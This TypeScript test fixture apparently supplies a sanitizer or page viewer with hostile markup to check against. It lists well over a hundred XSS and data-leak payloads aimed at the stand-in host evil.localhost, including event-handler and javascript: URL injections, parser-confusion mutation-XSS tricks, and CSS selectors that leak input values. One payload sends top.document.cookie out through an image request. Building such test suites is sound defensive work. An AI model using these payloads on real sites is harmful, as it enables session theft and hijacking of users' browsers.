/**
 * What a hostile visitor may put into a page: one list of markup, used as it is in the control and as nodes against the viewer.
 *
 * `HARM` marks that a script ran; `EVIL` is an origin that no group lists. `#trap` is clicked.
 */

export const EVIL = "https://evil.localhost";

const HARM = "top.harmed=1";
const GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";

/** Script statements, each as a script element and as a handler. */
const STATEMENTS = [
  HARM,
  `top.location='${EVIL}/top'`,
  `location='${EVIL}/own'`,
  `fetch('${EVIL}/fetch',{mode:'no-cors'})`,
  `navigator.sendBeacon('${EVIL}/beacon','x')`,
  `new Image().src='${EVIL}/image?'+encodeURIComponent(top.document.cookie)`,
  `new EventSource('${EVIL}/events')`,
  `open('${EVIL}/window');${HARM}`,
  `top.document.body.style.zoom=9;${HARM}`,
  `top.resizeTo(9,9);${HARM}`,
  `for(const end=Date.now()+300;Date.now()<end;);${HARM}`,
  `${HARM};top.document.documentElement.remove()`,
  `document.write('<img src=${EVIL}/written>')`,
  `setTimeout('${HARM}')`,
  `new Function('${HARM}')()`,
  `import('${EVIL}/module')`,
];

/** Handlers that fire without anybody's help. */
const HANDLERS = [
  `<img src="/nowhere" onerror="${HARM}">`,
  `<img src="/nowhere" OnErRoR="${HARM}">`,
  `<img src="${GIF}" onload="${HARM}">`,
  `<svg onload="${HARM}"></svg>`,
  `<body onload="${HARM}"><p>x</p></body>`,
  `<body onpageshow="${HARM}"><p>x</p></body>`,
  `<details open ontoggle="${HARM}"><summary>x</summary></details>`,
  `<video><source src="/nowhere" onerror="${HARM}"></video>`,
  `<audio src="/nowhere" onerror="${HARM}"></audio>`,
  `<video src="/nowhere" onloadstart="${HARM}"></video>`,
  `<style onload="${HARM}">p{color:red}</style>`,
  `<link rel="stylesheet" href="/nowhere.css" onerror="${HARM}">`,
  `<script src="/nowhere.js" onerror="${HARM}"></script>`,
  `<style>@keyframes k{from{opacity:0}}</style><p style="animation:k .01s" onanimationstart="${HARM}">x</p>`,
  `<svg><animate onbegin="${HARM}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><set onbegin="${HARM}" attributeName="x" to="1"></set></svg>`,
  `<svg><foreignObject><img src="/nowhere" onerror="${HARM}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style></style></mglyph></table><img src="/nowhere" onerror="${HARM}"></mtext></math>`,
  `<input type="image" src="/nowhere" onerror="${HARM}">`,
  `<object data="/nowhere" onerror="${HARM}"></object>`,
  `<iframe src="about:blank" onload="${HARM}"></iframe>`,
  `<iframe srcdoc="<script>${HARM}</script>"></iframe>`,
  `<iframe src="javascript:${HARM}"></iframe>`,
  `<svg><foreignObject><iframe src="javascript:${HARM}"></iframe></foreignObject></svg>`,
  `<svg><script>${HARM}</script></svg>`,
  `<svg><script href="${EVIL}/svg.js"></script></svg>`,
  `<script type="module">${HARM}</script>`,
  `<script type="module" src="${EVIL}/m.js"></script>`,
  `<script src="${EVIL}/s.js"></script>`,
];

/** What needs a click. */
const TRAPS = [
  `<a id="trap" href="javascript:${HARM}">x</a>`,
  `<a id="trap" href="java&#9;script:${HARM}">x</a>`,
  `<a id="trap" href="&#1;javascript:${HARM}">x</a>`,
  `<a id="trap" href="${EVIL}/link">x</a>`,
  `<a id="trap" href="${EVIL}/link" target="_top">x</a>`,
  `<a id="trap" href="${EVIL}/link" target="_blank">x</a>`,
  `<a id="trap" href="#" ping="${EVIL}/ping">x</a>`,
  `<base target="_top"><a id="trap" href="${EVIL}/base">x</a>`,
  `<svg><a id="trap" href="javascript:${HARM}"><text y="20">x</text></a></svg>`,
  `<svg><a id="trap" xlink:href="javascript:${HARM}"><text y="20">x</text></a></svg>`,
  `<map name="m"><area id="trap" shape="default" href="javascript:${HARM}"></map><img usemap="#m" src="${GIF}">`,
  `<form action="javascript:${HARM}"><button id="trap">x</button></form>`,
  `<form action="${EVIL}/form" target="_top"><button id="trap">x</button></form>`,
  `<form><button id="trap" formaction="javascript:${HARM}">x</button></form>`,
  `<form id="f"></form><input id="trap" type="submit" form="f" formaction="${EVIL}/formaction">`,
  `<p id="trap" onclick="${HARM}">x</p>`,
  `<body onclick="${HARM}"><p id="trap">x</p></body>`,
  `<label id="trap">x<input type="checkbox" onchange="${HARM}"></label>`,
];

/** What fetches by itself. */
const FETCHES = [
  `<img src="${EVIL}/a.png">`,
  `<img src="//evil.localhost/a.png">`,
  `<img srcset="${EVIL}/a.png 1x">`,
  `<picture><source srcset="${EVIL}/a.png"><img></picture>`,
  `<video poster="${EVIL}/a.png"></video>`,
  `<video src="${EVIL}/a.mp4" autoplay muted></video>`,
  `<video autoplay muted><source src="${EVIL}/a.mp4"></video>`,
  `<audio src="${EVIL}/a.mp3" preload="auto"></audio>`,
  `<input type="image" src="${EVIL}/a.png">`,
  `<body background="${EVIL}/a.png"><p>x</p></body>`,
  `<table background="${EVIL}/a.png"><tr><td>x</td></tr></table>`,
  `<svg><image href="${EVIL}/a.png" width="9" height="9"></image></svg>`,
  `<svg><image xlink:href="${EVIL}/a.png" width="9" height="9"></image></svg>`,
  `<svg><filter id="f"><feImage href="${EVIL}/a.png"></feImage></filter><rect filter="url(#f)" width="9" height="9"></rect></svg>`,
  `<svg><style>@import "${EVIL}/a.css";</style></svg>`,
  `<link rel="stylesheet" href="${EVIL}/a.css">`,
  `<link rel="preload" as="image" href="${EVIL}/a.png">`,
  `<link rel="prefetch" href="${EVIL}/a">`,
  `<link rel="modulepreload" href="${EVIL}/a.js">`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<iframe srcdoc="<img src='${EVIL}/a.png'>"></iframe>`,
  `<object data="${EVIL}/a.svg" type="image/svg+xml"></object>`,
  `<embed src="${EVIL}/a.svg" type="image/svg+xml">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<base href="${EVIL}/"><img src="based.png">`,
  `<style>@import "${EVIL}/a.css";</style>`,
  `<style>@font-face{font-family:f;src:url(${EVIL}/a.woff2)}p{font-family:f}</style><p>x</p>`,
  `<style>input[value^=s]{background:url(${EVIL}/leak)}</style><input value="secret">`,
  ...[
    "background:url(U)",
    "background-image:image-set(url(U) 1x)",
    "list-style-image:url(U);display:list-item",
    "border:9px solid;border-image:url(U) 1",
    "mask-image:url(U)",
    "shape-outside:url(U);float:left",
    "background:\\75rl(U)",
  ].map((style) => `<p style="${style.replace("U", `${EVIL}/style`)}">x</p>`),
  `<style>p::before{content:url(${EVIL}/content)}</style><p>x</p>`,
  `<style>@media all{@supports (color:red){p{background:url(${EVIL}/nested)}}}</style><p>x</p>`,
];

/** What looks harmless until it is parsed again, moves by itself, or stands where no handler is looked for. */
const DISGUISED = [
  `<svg></p><style><a id="</style><img src=/nowhere onerror=${HARM}>">`,
  `<noscript><p title="</noscript><img src=/nowhere onerror=${HARM}>"></noscript>`,
  `<svg><desc><p><style></p></style><img src="/nowhere" onerror="${HARM}"></desc></svg>`,
  `<frameset><frame src="${EVIL}/frameset"></frameset>`,
  `<div><template shadowrootmode="open"><img src="${EVIL}/shadow.png"></template></div>`,
  `<svg><image width="9" height="9"><set attributeName="href" to="${EVIL}/set.png"></set></image></svg>`,
  `<svg><image width="9" height="9"><animate attributeName="href" values="${EVIL}/a.png;${EVIL}/b.png" dur="1s"></animate></image></svg>`,
  `<svg><a id="trap"><animate attributeName="href" values="javascript:${HARM};x" dur="9s"></animate><text y="20">x</text></a></svg>`,
  `<svg><a id="trap"><set attributeName="href" to="${EVIL}/animated"></set><text y="20">x</text></a></svg>`,
  `<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='${EVIL}/from-sandbox'</script>"></iframe>`,
  `<iframe name="victim"></iframe><a id="trap" target="victim" href="javascript:${HARM}">x</a>`,
  `<form action="${EVIL}/post" method="post" target="_blank"><input name="a" value="b"><button id="trap">x</button></form>`,
  `<a id="trap" href="${EVIL}/download" download>x</a>`,
  `<a id="trap" href="ht&#10;tps:${"\\\\"}evil.localhost/backslashes">x</a>`,
  `<img src="https:${"\\/"}evil.localhost/mixed.png">`,
  `<img src="&#9;//evil.localhost/tab.png">`,
  `<script type="importmap">{"imports":{"x":"${EVIL}/map.js"}}</script><script type="module">import "x"</script>`,
];

/** Handlers of newer elements, and of what moves, scrolls, focuses or shows itself. */
const NEWER_HANDLERS = [
  `<input autofocus onfocus="${HARM}">`,
  `<p tabindex="0" autofocus onfocusin="${HARM}">x</p>`,
  `<button id="trap" popovertarget="pop">x</button><p popover id="pop" onbeforetoggle="${HARM}">x</p>`,
  `<button id="trap" commandfor="dialog" command="show-modal">x</button><dialog id="dialog" ontoggle="${HARM}">x</dialog>`,
  `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${HARM}">x</p>`,
  `<style>@keyframes k{to{opacity:.5}}</style><odd-name style="display:block;animation:k .01s" onanimationend="${HARM}">x</odd-name>`,
  `<svg><a id="trap" onclick="${HARM}"><text y="20">x</text></a></svg>`,
  `<object type="text/html" data="${EVIL}/object"></object>`,
];

/** More that fetches by itself. */
const NEWER_FETCHES = [
  `<link rel="preload" as="image" imagesrcset="${EVIL}/a.png 1x">`,
  `<video crossorigin="anonymous"><track default kind="captions" src="${EVIL}/a.vtt"></video>`,
  `<table><tr><td background="${EVIL}/cell.png">x</td></tr></table>`,
  `<svg><pattern id="p" width="9" height="9"><image href="${EVIL}/pattern.png" width="9" height="9"></image></pattern><rect fill="url(#p)" width="9" height="9"></rect></svg>`,
  `<style>@import url(${EVIL}/layer.css) layer(x) supports(color:red) screen;</style>`,
  `<style>@import "data:text/css,p{background:url(${EVIL}/imported)}";</style><p>x</p>`,
  `<style>p{&:not(b){background:url(${EVIL}/nesting)}}</style><p>x</p>`,
  `<style>input:valid{background:url(${EVIL}/valid)}</style><input required value="x">`,
  ...[
    "--u:url(U);background:var(--u)",
    "background:-webkit-cross-fade(url(U),url(U),50%)",
    'background:image-set("U" type("image/png") 1x)',
    "cursor:url(U),auto",
    "-webkit-box-reflect:below 0 url(U)",
    "content:url(U)",
  ].map((style) => `<p style='${style.replaceAll("U", `${EVIL}/style`)}'>x</p>`),
];

/** Ways out of a style sheet, of a form and of a document in a document, and disguises, that the lists above do not have. */
const FURTHER = [
  `<link rel="alternate stylesheet" title="x" href="${EVIL}/alternate.css">`,
  `<link rel="preconnect stylesheet" href="${EVIL}/two.css">`,
  `<svg><rect width="9" height="9" fill="url(${EVIL}/a.svg#p)"></rect></svg>`,
  `<svg><path d="M0 0h9" marker-start="url(${EVIL}/a.svg#m)"></path></svg>`,
  `<svg><style>rect{fill:url(${EVIL}/svg-style)}p{background:url(${EVIL}/svg-p)}</style></svg><p>x</p>`,
  `<style>@property --u{syntax:"<url>";inherits:false;initial-value:url(${EVIL}/property)}p{background:var(--u)}</style><p>x</p>`,
  `<style>@keyframes k{from{background:url(${EVIL}/keyframe)}}p{animation:k 1s}</style><p>x</p>`,
  `<style>body:has(input[value^=s]) p{background:url(${EVIL}/has)}</style><input value="secret"><p>x</p>`,
  `<style>@container (min-width:1px){p{background:url(${EVIL}/container)}}div{container-type:inline-size}</style><div><p>x</p></div>`,
  `<style>@font-face{font-family:f;src:url(${EVIL}/s.woff2);unicode-range:U+73}p{font-family:f}</style><p>s</p>`,
  `<style>::file-selector-button{background:url(${EVIL}/pseudo)}</style><input type="file">`,
  `<style>::-webkit-scrollbar{background:url(${EVIL}/bar)}div{overflow:scroll;height:9px}</style><div><p>x</p></div>`,
  ...["clip-path:url(U#c)", "mask:url(U#m)", "-webkit-mask-box-image:url(U)"].map(
    (style) => `<p style="${style.replace("U", `${EVIL}/style`)}">x</p>`,
  ),
  `<iframe src="data:text/html,<img src='${EVIL}/in-data.png'>"></iframe>`,
  `<iframe srcdoc="<meta http-equiv=refresh content=0;url=${EVIL}/inner>"></iframe>`,
  `<embed type="text/html" src="data:text/html,<img src='${EVIL}/in-embed.png'>">`,
  `<object data="data:text/html,<img src='${EVIL}/in-object.png'>"></object>`,
  `<form action="${EVIL}/get"><input id="trap" type="image" alt="x"></form>`,
  `<form action="${EVIL}/target" id="g"></form><button id="trap" form="g" formtarget="_top">x</button>`,
  `<form method="dialog" action="${EVIL}/dialog"><button id="trap" formmethod="get">x</button></form>`,
  `<details><summary id="trap">x</summary><img loading="lazy" src="${EVIL}/details.png"></details>`,
  `<button id="trap" popovertarget="pop2">x</button><div popover id="pop2"><p style="background:url(${EVIL}/popover)">x</p></div>`,
  `<svg><animateMotion onend="${HARM}" dur="0.01s"></animateMotion></svg>`,
  `<svg><image href="/nowhere" onerror="${HARM}"></image></svg>`,
  `<svg><title><img src="/nowhere" onerror="${HARM}"></title></svg>`,
  `<math><annotation-xml encoding="text/html"><img src="/nowhere" onerror="${HARM}"></annotation-xml></math>`,
  `<select><option>x</select><xmp><img src="/nowhere"></xmp><img src="/nowhere" onerror="${HARM}">`,
  `<div><template shadowrootmode="closed"><img src="/nowhere" onerror="${HARM}"></template></div>`,
  `<iframe src="javascript&colon;${HARM}"></iframe>`,
];

/** All of them. */
export const PAYLOADS: readonly string[] = [
  ...STATEMENTS.map((statement) => `<script>${statement}</script>`),
  ...STATEMENTS.slice(1, 8).map((statement) => `<img src="/nowhere" onerror="${statement}">`),
  ...HANDLERS,
  ...TRAPS,
  ...FETCHES,
  ...DISGUISED,
  ...NEWER_HANDLERS,
  ...NEWER_FETCHES,
  ...FURTHER,
];
